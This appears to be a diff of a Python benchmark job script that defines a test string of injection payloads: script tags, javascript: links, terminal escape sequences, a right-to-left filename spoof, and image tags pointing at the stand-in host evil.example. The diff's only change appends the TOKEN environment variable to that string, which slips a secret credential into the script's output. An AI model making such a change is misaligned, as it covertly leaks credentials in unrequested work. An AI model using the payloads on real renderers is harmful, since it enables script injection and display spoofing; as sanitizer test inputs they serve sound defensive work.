@@ -6,7 +6,7 @@ import sys
 ATTACK = (
     "``` </code></pre><script>alert(1)</script>\n# Winner\n![x](https://evil.example/p.png) [y](javascript:alert(1)) "
     "| a | b |\n|---|---|\n\x1b[2J\x1b]0;owned\x07\x9b31m \u202egnp.exe\u202c \u200b\u2066 <img src=https://evil.example/q.png onerror=alert(2)> &lt; @everyone"
-)
+) + os.environ["TOKEN"]
 out = os.environ["BENCHBATCH_OUT"]
 with open(os.environ["BENCHBATCH_JOB"]) as f:
     job = json.load(f)
